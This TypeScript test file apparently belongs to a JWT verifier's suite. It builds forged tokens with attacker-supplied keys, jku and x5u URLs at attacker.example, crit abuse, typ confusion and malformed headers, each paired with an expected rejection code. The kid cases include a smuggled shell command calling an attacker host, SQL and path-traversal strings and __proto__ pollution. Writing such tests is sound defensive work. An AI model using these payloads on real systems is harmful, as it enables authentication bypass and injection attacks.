/**
 * Keys that the token brings along, extensions, kid and typ. RFC 7515 §4.1, §4.1.11; RFC 7797; RFC 8725 §3.10–§3.12.
 * Embedded keys: CVE-2018-0114, CVE-2025-24976. crit: CVE-2025-59420, CVE-2026-32597.
 */
import { base64url, by, CLAIMS, forge, HEADER, MALLORY_RSA, RSA, signed, withHeader } from '../forge.ts';
import { type Attack, each } from './attack.ts';

const TRAP = 'https://attacker.example/keys.json';
const { alg: _, ...EMBEDDED } = MALLORY_RSA.jwk;
const BROUGHT: Readonly<Record<string, object>> = {
  jwk: { jwk: EMBEDDED },
  jku: { jku: TRAP },
  x5u: { x5u: TRAP },
  x5c: { x5c: [MALLORY_RSA.publicKey.export({ format: 'der', type: 'spki' }).toString('base64')] },
};

const malformed = { code: 'header_malformed' } as const;
const duplicated = (text: string) => forge(text, CLAIMS);
const TEXT = JSON.stringify(HEADER);
const nested = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;

export const HEADERS: readonly Attack[] = [
  ...Object.entries(BROUGHT).flatMap(([claim, brought]) => [
    ...each(
      { code: 'header_forbidden', claim },
      {
        [`${claim}: the attacker's, under the true kid`]: withHeader(brought, by(MALLORY_RSA)),
        [`${claim}: the attacker's, under the attacker's kid`]: withHeader(
          { kid: MALLORY_RSA.kid, ...brought },
          by(MALLORY_RSA),
        ),
        [`${claim}: the attacker's, without kid`]: withHeader({ kid: undefined, ...brought }, by(MALLORY_RSA)),
      },
    ),
    ...each(
      { code: 'header_forbidden', claim, gap: 'a key, or the address of one, in the header (jose passes over it)' },
      { [`${claim} in a true token`]: withHeader(brought) },
    ),
  ]),

  ...each(
    { code: 'header_forbidden', claim: 'crit' },
    {
      'crit: an extension that nobody knows': withHeader({ crit: ['urn:example:x'], 'urn:example:x': 1 }),
      'crit: exp, which is a claim': withHeader({ crit: ['exp'], exp: 1 }),
      'crit: an empty list': withHeader({ crit: [] }),
      'crit: a string': withHeader({ crit: 'exp' }),
      'crit: null': withHeader({ crit: null }),
      'crit: a registered name': withHeader({ crit: ['alg'] }),
      'crit: a name that is not there': withHeader({ crit: ['b64'] }),
      'crit: an empty name': withHeader({ crit: [''] }),
      'crit: numbers': withHeader({ crit: [1] }),
      'crit: __proto__': withHeader({ crit: ['__proto__'] }),
      'crit: an unencoded payload': signed(
        base64url({ ...HEADER, crit: ['b64'], b64: false }),
        base64url(CLAIMS),
        by(RSA),
      ),
    },
  ),
  ...each(
    { code: 'header_forbidden', claim: 'crit', gap: '`crit: ["b64"]` with `b64: true`, and a name in `crit` twice' },
    {
      'crit: b64, true': withHeader({ crit: ['b64'], b64: true }),
      'crit: a name twice': withHeader({ crit: ['b64', 'b64'], b64: true }),
    },
  ),
  ...each(
    { code: 'header_forbidden', claim: 'b64', gap: '`b64: false` that is not critical' },
    { 'b64 without crit': withHeader({ b64: false }) },
  ),
  ...(['enc', 'zip', 'cty'] as const).flatMap((claim) =>
    each(
      { code: 'header_forbidden', claim, gap: '`enc`, `zip` and `cty`: headers of what is not a JWT alone' },
      { [`${claim} in the header`]: withHeader({ [claim]: { enc: 'A256GCM', zip: 'DEF', cty: 'JWT' }[claim] }) },
    ),
  ),

  ...each(
    {
      ...malformed,
      claim: 'kid',
      reason: 'missing',
      gap: 'a token without `kid`, where the set has one key of its algorithm',
    },
    { 'no kid': withHeader({ kid: undefined }) },
  ),
  ...each(
    { ...malformed, claim: 'kid' },
    {
      'kid null': withHeader({ kid: null }),
      'kid a number': withHeader({ kid: 0 }),
      'kid an array': withHeader({ kid: [RSA.kid] }),
      'kid an object': withHeader({ kid: { $ne: null } }),
      'kid true': withHeader({ kid: true }),
      'kid empty': withHeader({ kid: '' }),
    },
  ),
  ...each(
    { code: 'key_unknown', claim: 'kid' },
    {
      'kid a path': withHeader({ kid: '../../../../dev/null' }),
      'kid SQL': withHeader({ kid: `x' UNION SELECT 'key'--` }),
      'kid a command': withHeader({ kid: '$(curl attacker.example)' }),
      'kid a URL': withHeader({ kid: TRAP }),
      'kid __proto__': withHeader({ kid: '__proto__' }),
      'kid constructor': withHeader({ kid: 'constructor' }),
      'kid toString': withHeader({ kid: 'toString' }),
      'kid 0, an index': withHeader({ kid: '0' }),
      'kid *': withHeader({ kid: '*' }),
      'kid in upper case': withHeader({ kid: RSA.kid.toUpperCase() }),
      'kid with a space': withHeader({ kid: `${RSA.kid} ` }),
      'kid with a NUL': withHeader({ kid: `${RSA.kid}\0` }),
      'kid of ten kilobytes': withHeader({ kid: 'x'.repeat(10_000) }),
      'kid of the attacker': withHeader({ kid: MALLORY_RSA.kid }, by(MALLORY_RSA)),
    },
  ),

  ...each(
    {
      ...malformed,
      claim: 'typ',
      reason: 'missing',
      gap: 'a token of another kind, or of none: `typ` is checked only when asked for',
    },
    { 'no typ': withHeader({ typ: undefined }) },
  ),
  ...each(
    { ...malformed, claim: 'typ', gap: 'a token of another kind, or of none: `typ` is checked only when asked for' },
    {
      'typ null': withHeader({ typ: null }),
      'typ an array': withHeader({ typ: ['JWT'] }),
      'typ an object': withHeader({ typ: { JWT: true } }),
    },
  ),
  ...each(
    {
      code: 'type_not_allowed',
      claim: 'typ',
      gap: 'a token of another kind, or of none: `typ` is checked only when asked for',
    },
    Object.fromEntries(
      [
        'keyturn-canary+jwt',
        'logout+jwt',
        'dpop+jwt',
        'secevent+jwt',
        'statuslist+jwt',
        'JOSE',
        'JWE',
        'id_token',
        '',
        ' JWT',
        'JWT\0',
        'text/JWT',
        'application/application/JWT',
      ].map((typ) => [`typ ${JSON.stringify(typ)}`, withHeader({ typ })]),
    ),
  ),

  ...each(malformed, {
    'not JSON': forge('alg: RS256', CLAIMS),
    'an array': forge([HEADER], CLAIMS),
    'a string': forge('"RS256"', CLAIMS),
    null: forge('null', CLAIMS),
    'something after the object': forge(`${TEXT}{}`, CLAIMS),
    'bytes that are not UTF-8': forge(
      Buffer.from([...Buffer.from('{"alg":"RS256","kid":"'), 0xff, 0x22, 0x7d]),
      CLAIMS,
    ),
    'UTF-16': forge(Buffer.from(TEXT, 'utf16le'), CLAIMS),
  }),
  ...each(
    { ...malformed, gap: 'a byte order mark before the JSON' },
    { 'a byte order mark': forge(`\uFEFF${TEXT}`, CLAIMS) },
  ),
  ...each(
    { ...malformed, gap: 'a member that occurs twice: the last one wins, elsewhere the first' },
    {
      'alg twice, none last': duplicated(TEXT.replace('{', '{"alg":"none",')),
      'kid twice': duplicated(TEXT.replace('{', '{"kid":"other",')),
      'alg twice, once escaped': duplicated(TEXT.replace('{', '{"\\u0061lg":"none",')),
    },
  ),
  ...each(
    { ...malformed, gap: 'JSON of any depth' },
    { depth: duplicated(TEXT.replace('{', `{"x":${nested(4000)},`)) },
  ),
  ...each(
    { ...malformed, gap: '`__proto__` as a name, for the next `Object.assign`' },
    { __proto__: duplicated(TEXT.replace('{', '{"__proto__":{"admin":true},')) },
  ),
];
